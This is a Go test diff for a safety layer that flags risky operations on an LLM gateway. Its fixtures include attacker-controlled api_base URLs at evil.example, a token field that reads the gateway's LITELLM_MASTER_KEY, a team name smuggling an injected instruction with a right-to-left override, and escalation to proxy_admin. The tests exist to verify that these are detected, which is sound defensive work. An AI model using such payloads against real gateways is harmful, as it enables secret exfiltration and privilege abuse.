@@ -2,6 +2,8 @@ package tools
 
 import (
 	"context"
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"net/http"
 	"net/http/httptest"
@@ -26,20 +28,24 @@ func consentWorld(t *testing.T) (*sandbox.Gateway, operation.Env) {
 	}
 	for _, write := range [][2]string{
 		{"/team/new", `{"team_alias":"research","team_id":"0c95aaaa-1111-2222-3333-444455556666","max_budget":10,"models":["gpt-4o-mini"],"tpm_limit":100}`},
+		{"/team/new", `{"team_alias":"strict","team_id":"strict","max_budget":5,"models":["gpt-4o-mini"],"tpm_limit":50}`},
+		{"/team/new", `{"team_alias":"held","team_id":"held","metadata":{"model_tpm_limit":{"gpt-4o":5},"guardrails":["pii"],"note":"x"}}`},
 		{"/team/new", `{"team_alias":"fake\"? Nothing is lost.\nDelete team \u202eother","team_id":"evil"}`},
 		{"/user/new", `{"user_id":"ann-0123456789","user_email":"ann@example.com","user_role":"internal_user","auto_create_key":false,"max_budget":5}`},
 		{"/user/new", `{"user_id":"root","user_email":"root@example.com","user_role":"proxy_admin","auto_create_key":false}`},
 		{"/team/member_add", `{"team_id":"0c95aaaa-1111-2222-3333-444455556666","member":[{"user_id":"ann-0123456789","role":"user"}],"max_budget_in_team":7}`},
 		{"/key/generate", `{"key_alias":"ci","key":"sk-ci-0123456789abcdef","user_id":"ann-0123456789","team_id":"0c95aaaa-1111-2222-3333-444455556666","max_budget":10,"duration":"30d","budget_duration":"30d","models":["gpt-4o-mini"],"model_rpm_limit":{"gpt-4o-mini":5}}`},
 		{"/key/generate", `{"key_alias":"free","key":"sk-free-0123456789abcdef"}`},
+		{"/key/generate", `{"key_alias":"held","key":"sk-held-0123456789abcdef","team_id":"held","allowed_routes":["/chat/completions"],"metadata":{"guardrails":["pii"],"team":"blue"}}`},
 		{"/key/generate", `{"key_alias":"admins","key":"sk-admins-0123456789abcdef","user_id":"root"}`},
 		{"/budget/new", `{"budget_id":"tier","max_budget":5}`},
 		{"/customer/new", `{"user_id":"acme","max_budget":5}`},
 		{"/tag/new", `{"name":"prod","max_budget":5}`},
 		{"/tag/new", `{"name":"bare"}`},
 		{"/credentials", `{"credential_name":"azure","credential_info":{},"credential_values":{"api_key":"x"}}`},
-		{"/model/new", `{"model_name":"m","litellm_params":{"model":"openai/gpt-4o","litellm_credential_name":"azure","rpm":10},"model_info":{"id":"m1"}}`},
+		{"/model/new", `{"model_name":"m","litellm_params":{"model":"openai/gpt-4o","litellm_credential_name":"azure","rpm":10,"max_budget":5,"input_cost_per_token":0.5},"model_info":{"id":"m1"}}`},
 		{"/model/new", `{"model_name":"m","litellm_params":{"model":"openai/gpt-4o"},"model_info":{"id":"m2"}}`},
+		{"/model/new", `{"model_name":"n","litellm_params":{"model":"openai/gpt-4o"},"model_info":{"id":"n1"}}`},
 		{"/access_group/new", `{"access_group":"group","model_names":["m"]}`},
 		{"/fallback", `{"model":"m","fallback_models":["gpt-4o-mini"]}`},
 	} {
@@ -182,6 +188,34 @@ func dangers(t *testing.T, g *sandbox.Gateway, env operation.Env, op, args strin
 	return found, reads
 }
 
+// TestMaskedTargets: a key or a name that is masked in a request is told apart by its hash.
+func TestMaskedTargets(t *testing.T) {
+	_, env := consentWorld(t)
+	const key = "sk-abcdefghijklmnop1234"
+	for _, tt := range []struct{ args, where, sent string }{
+		{`{"method":"POST","uri":"/key/` + key + `/reset_spend"}`, "The masked sk-...1234 (path)", key},
+		{`{"method":"POST","uri":"/x?token=first-target-1&a=b"}`, "(query.token)", "first-target-1"},
+		{`{"method":"DELETE","uri":"/credentials/` + key + `"}`, "The masked sk-...1234 (path)", key},
+		{`{"method":"POST","uri":"/x","json":{"a":1,"list":[{"api_key":"first-target-1"}]}}`, "The masked **** (body.list.api_key)", "first-target-1"},
+		{`{"method":"POST","uri":"/key/delete","data":"{\"keys\":[\"` + key + `\"]}"}`, "The masked sk-...1234 (body.keys)", key},
+		{`{"method":"POST","uri":"/x","data":"api_key=first-target-1","header":{"Content-Type":"text/plain"}}`, "(body)", "api_key=first-target-1"},
+	} {
+		q, err := prepare(t, env, "http request", tt.args).Question(t.Context())
+		if err != nil {
+			t.Errorf("%s: %v", tt.args, err)
+			continue
+		}
+		sum := sha256.Sum256([]byte(tt.sent))
+		if want := tt.where + " has the SHA-256 hash " + hex.EncodeToString(sum[:]) + "."; !strings.Contains(q.String(), want) || strings.Contains(q.String(), tt.sent) {
+			t.Errorf("%s:\n got %s\nwant %s", tt.args, q, want)
+		}
+	}
+	q, err := prepare(t, env, "http request", `{"method":"POST","uri":"/key/block","json":{"key":"`+keyHash(key)+`"}}`).Question(t.Context())
+	if err != nil || strings.Contains(q.Text, "SHA-256") {
+		t.Errorf("what is not masked is told apart: %s, %v", q, err)
+	}
+}
+
 // TestSensitive: each of these is confirmed, and the question says why.
 func TestSensitive(t *testing.T) {
 	g, env := consentWorld(t)
@@ -192,6 +226,9 @@ func TestSensitive(t *testing.T) {
 		{"models add", `{"model_name":"x","litellm_params":{"litellm_credential_name":"azure","api_base":"https://user:pass@evil.example"}}`, "sends requests to evil.example"},
 		{"models update", `{"model_id":"m1","litellm_params":{"rpm":50}}`, "raises the limit of requests per minute of deployment m (m1) from 10 to 50"},
 		{"models add", `{"model_name":"huggingface/https://evil.example/x"}`, "names the address"},
+		{"models add", `{"model_name":"oobabooga/http:evil.example"}`, "names the address"},
+		{"models add", `{"model_name":"azure/x/evil.example#"}`, "may change the address"},
+		{"health test-connection", `{"model":"oobabooga/http://127.0.0.1:9999/a"}`, "names the address"},
 		{"models add", `{"model_name":"x","litellm_params":{"litellm_credential_name":"azure"}}`, "uses the stored credential azure"},
 		{"models add", `{"model_name":"x","litellm_params":{"aws_web_identity_token":"oidc/env/LITELLM_MASTER_KEY","aws_sts_endpoint":"https://evil.example"}}`, "reads the gateway's environment variable LITELLM_MASTER_KEY"},
 		{"health test-connection", `{"model":"openai/x","litellm_params":{"api_base":"http://evil.example"}}`, "sends requests to evil.example"},
@@ -232,7 +269,7 @@ func TestSensitive(t *testing.T) {
 		{"keys update", `{"alias":"ci","model_rpm_limit":{}}`, "for model gpt-4o-mini"},
 		{"keys update", `{"alias":"ci","extra":{"temp_budget_increase":100}}`, "raises the budget for a time by 100"},
 		{"keys bulk-update", `{"key_aliases":["free","ci"],"max_budget":11}`, "raises the budget of key ci"},
-		{"keys reset-spend", `{"alias":"ci"}`, "resets the spend of key ci (" + ci[:8] + "…) from 0 US dollars to 0"},
+		{"keys reset-spend", `{"alias":"ci"}`, "resets the spend of key ci (" + ci[:8] + "…) from 0 to 0 US dollars"},
 		{"teams update", `{"team":"research","tpm_limit":200}`, "raises the limit of tokens per minute of team research (0c95aaaa…) from 100 to 200"},
 		{"teams update", `{"team":"research","clear":["models"]}`, "lets team research (0c95aaaa…) use every model"},
 		{"teams member-update", `{"team":"research","user":"ann@example.com","max_budget_in_team":50}`, "raises the budget in the team of user ann@example.com (ann-0123…) from 7 to 50 US dollars"},
@@ -245,15 +282,75 @@ func TestSensitive(t *testing.T) {
 		{"access-groups budget-set", `{"access_group":"group","max_budget":6}`, "raises the budget of access group group from 5 to 6 US dollars"},
 		{"organizations update", `{"organization_id":"o","max_budget":6}`, "sets the budget of organization o to 6 US dollars; the present one is not known"},
 		{"projects update", `{"project_id":"p","max_budget":6}`, "sets the budget of project p to 6 US dollars; the present one is not known"},
+		{"keys update", `{"alias":"ci","metadata":{"a":1}}`, "removes the limit of requests per minute of key ci (" + ci[:8] + "…) for model gpt-4o-mini"},
+		{"keys update", `{"alias":"ci","metadata":{"model_rpm_limit":{"gpt-4o-mini":50}}}`, "for model gpt-4o-mini from 5 to 50"},
+		{"keys update", `{"alias":"ci","clear":["metadata"]}`, "for model gpt-4o-mini"},
+		{"keys update", `{"alias":"held","metadata":{"team":"red"}}`, "removes guardrails from key held"},
+		{"keys update", `{"alias":"held","metadata":{"guardrails":["pii"],"disable_global_guardrails":true}}`, "turns off guardrails of key held"},
+		{"keys update", `{"alias":"held","allowed_routes":["llm_api_routes"]}`, "use more routes: llm_api_routes"},
+		{"keys update", `{"alias":"ci","models":["openai/*"]}`, "use more models: openai/*"},
+		{"keys update", `{"alias":"ci","models":["gpt-4o-mini","all-team-models"]}`, "use more models: all-team-models"},
+		{"keys update", `{"alias":"ci","team_id":"evil"}`, "whose limits are not as strict: max_budget, tpm_limit"},
+		{"keys update", `{"alias":"ci","team_id":"unknown"}`, "to team unknown, whose limits cannot be compared"},
+		{"keys update", `{"alias":"ci","extra":{"expires":"2099-01-01T00:00:00Z"}}`, ", to 2099-01-01T00:00:00Z"},
+		{"keys update", `{"alias":"ci","duration":"-1"}`, "removes the expiry of key ci"},
+		{"keys bulk-update", `{"key_aliases":["free","held"],"team_id":"evil"}`, "moves key held"},
+		{"keys move", `{"alias":"ci","team_id":"evil"}`, "moves key ci (" + ci[:8] + "…) from team research (0c95aaaa…) to team"},
+		{"keys move", `{"alias":"held","team_id":"evil"}`, "are not as strict: metadata"},
+		{"keys move", `{"alias":"ci","team_id":"strict","models":[]}`, "use every model"},
+		{"teams assign-key", `{"team_id":"evil","alias":"ci"}`, "whose limits are not as strict"},
+		{"keys regenerate", `{"alias":"ci","extra":{"max_budget":50}}`, "raises the budget of key ci (" + ci[:8] + "…) from 10 to 50"},
+		{"keys regenerate", `{"alias":"ci","extra":{"team_id":"evil"}}`, "whose limits are not as strict"},
+		{"teams update", `{"team":"held","metadata":{}}`, "removes the limit of tokens per minute of team held for model gpt-4o"},
+		{"teams update", `{"team":"held","clear":["metadata"]}`, "removes guardrails from team held: pii"},
+		{"teams update", `{"team":"held","guardrails":[]}`, "removes guardrails from team held: pii"},
+		{"teams update", `{"team":"research","models":["gpt-*"]}`, "use more models: gpt-*"},
+		{"teams model-add", `{"team":"research","models":["openai/*"]}`, "use more models: openai/*"},
+		{"users bulk-update", `{"user_ids":["ann-0123456789"],"extra":{"password":"x"}}`, "sets the user's password"},
+		{"users bulk-update", `{"user_ids":["ann-0123456789"],"extra":{"sso_user_id":"x"}}`, "another identity sign in"},
+		{"users bulk-update", `{"user_ids":["root"],"extra":{"user_email":"x@example.com"}}`, "changes the email address of user root@example.com (root), who has the role proxy_admin"},
+		{"users bulk-update", `{"user_ids":["ann-0123456789"],"user_role":"proxy_admin"}`, "gives the role proxy_admin"},
+		{"users update", `{"user_id":"root","user_email":"x@example.com"}`, "who has the role proxy_admin"},
+		{"users update", `{"user_id":"nobody","user_email":"x@example.com"}`, "whose role cannot be read"},
+		{"users update", `{"user_id":"ann-0123456789","extra":{"sso_user_id":"x"}}`, "another identity sign in"},
+		{"models update", `{"model_id":"m1","litellm_params":{"max_budget":50}}`, "raises the budget of deployment m (m1) from 5 to 50"},
+		{"models update", `{"model_id":"m1","extra":{"litellm_params_to_remove":["rpm"]}}`, "removes the limit of requests per minute of deployment m (m1)"},
+		{"models update", `{"model_id":"m1","litellm_params":{"input_cost_per_token":0}}`, "lowers the price input_cost_per_token of deployment m (m1) from 0.5 to 0"},
+		{"models update", `{"model_id":"m1","model_info":{"output_cost_per_token":0}}`, "lowers the price output_cost_per_token of deployment m (m1) from 0.00001 to 0"},
+		{"models update", `{"model_id":"m1","extra":{"model_name":"n"}}`, "gives deployment m (m1) the name n, under which other deployments are called"},
+		{"budgets update", `{"budget_id":"tier","extra":{"budget_reset_at":"2020-01-01T00:00:00Z"}}`, "sets the next budget reset of budget tier to 2020-01-01T00:00:00Z"},
+		{"budgets update", `{"budget_id":"tier","clear":["max_budget"]}`, "removes the limit of budget tier, now 5 US dollars"},
 		{"http request", `{"method":"GET","uri":"/health"}`, "may call a provider"},
 		{"http request", `{"method":"POST","uri":"/model/new","data":"{\"litellm_params\":{\"api_base\":\"https://evil.example\"}}"}`, "sends requests to evil.example"},
+		{"teams create", `{"team_alias":"x","extra":{"admins":["ann"]}}`, "rights of an administrator"},
 	} {
 		found, reads := dangers(t, g, env, tt.op, tt.args)
 		if !slices.ContainsFunc(found, func(d string) bool { return strings.Contains(d, tt.want) }) {
 			t.Errorf("%s %s:\n got %q\nwant %s", tt.op, tt.args, found, tt.want)
 		}
-		if most := map[string]int{"keys bulk-update": 2, "keys regenerate": 3, "keys update": 2}[tt.op]; reads > max(1, most) {
+		if most := map[string]int{"keys bulk-update": 4, "keys regenerate": 4, "keys update": 3, "keys move": 3, "teams assign-key": 3, "models update": 2, "users bulk-update": 2}[tt.op]; reads > max(1, most) {
 			t.Errorf("%s %s: %d reads", tt.op, tt.args, reads)
+		}
+	}
+}
+
+// TestWordsOfDangers: a danger says no more than what is so.
+func TestWordsOfDangers(t *testing.T) {
+	g, env := consentWorld(t)
+	for _, tt := range []struct{ op, args, never string }{
+		{"http request", `{"method":"POST","uri":"/config/pass_through_endpoint","json":{"path":"/x","target":"https://evil.example"}}`, "file"},
+		{"http request", `{"method":"POST","uri":"/chat/completions","json":{"model":"m","messages":[{"role":"system","content":"https://x"}],"tools":[{"function":{"parameters":{"role":{"type":"a"}}}}]}}`, ""},
+		{"credentials create", `{"credential_name":"c","credential_info":{},"credential_values":{"vertex_credentials":"{\"audience\":\"//iam.googleapis.com/x\"}"}}`, "reads the gateway's file"},
+		{"keys update", `{"alias":"ci","extra":{"expires":"2099-01-01T00:00:00Z"}}`, "from now"},
+		{"keys update", `{"alias":"ci","duration":"-1"}`, "from now"},
+		{"budgets update", `{"budget_id":"tier","max_budget":6,"budget_duration":"1d","model_max_budget":{}}`, "budget of budget"},
+		{"credentials create", `{"credential_name":"c","credential_info":{},"credential_values":{"headers":"Authorization: Bearer sk-abcdefghijklmnop1234"}}`, "abcdefgh"},
+	} {
+		found, _ := dangers(t, g, env, tt.op, tt.args)
+		for _, danger := range found {
+			if strings.Contains(danger, tt.never) {
+				t.Errorf("%s %s: %s", tt.op, tt.args, danger)
+			}
 		}
 	}
 }
@@ -284,7 +381,16 @@ func TestOrdinaryWork(t *testing.T) {
 		{"keys update", `{"alias":"free","max_budget":50,"tpm_limit":5,"models":["m"],"duration":"1d"}`},
 		{"keys bulk-update", `{"key_aliases":["ci","free"],"max_budget":9}`},
 		{"keys block", `{"alias":"ci"}`},
-		{"keys move", `{"alias":"ci","team_id":"evil"}`},
+		{"keys move", `{"alias":"ci","team_id":"strict"}`},
+		{"keys move", `{"alias":"ci","team_id":"strict","models":["gpt-4o-mini"]}`},
+		{"keys update", `{"alias":"free","team_id":"evil"}`},
+		{"teams assign-key", `{"team_id":"strict","alias":"ci"}`},
+		{"keys regenerate", `{"alias":"ci","extra":{"max_budget":5}}`},
+		{"keys update", `{"alias":"held","metadata":{"guardrails":["pii","more"],"team":"red"}}`},
+		{"keys update", `{"alias":"ci","metadata":{"model_rpm_limit":{"gpt-4o-mini":4}}}`},
+		{"teams update", `{"team":"research","metadata":{"cost_center":"7"}}`},
+		{"users update", `{"user_id":"ann-0123456789","user_email":"ann@new.example"}`},
+		{"models update", `{"model_id":"m1","litellm_params":{"input_cost_per_token":0.7},"model_info":{"output_cost_per_token":0.1},"extra":{"model_name":"fresh"}}`},
 		{"budgets create", `{"budget_id":"b","max_budget":10}`},
 		{"budgets update", `{"budget_id":"tier","max_budget":4,"soft_budget":100}`},
 		{"customers create", `{"user_id":"c","max_budget":10}`},
@@ -299,6 +405,8 @@ func TestOrdinaryWork(t *testing.T) {
 		{"fallbacks set", `{"model":"m","fallback_models":["gpt-4o-mini"]}`},
 		{"model-groups make-public", `{"model_groups":["m"]}`},
 		{"chat completions", `{"model":"m","messages":[{"role":"system","content":"Read os.environ/HOME and https://example.com"}]}`},
+		{"chat completions", `{"model":"m","messages":[{"role":"user","content":"x"}],"extra":{"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object","properties":{"role":{"type":"string"},"path":{"type":"string"}}}}}],"metadata":{"docs_url":"https://x"}}}`},
+		{"keys generate", `{"metadata":{"repo_url":"https://git.example/x","dashboard_url":"https://d.example"}}`},
 		{"http request", `{"method":"GET","uri":"/key/list?size=5"}`},
 		{"http request", `{"method":"get","uri":"health/readiness"}`},
 	} {
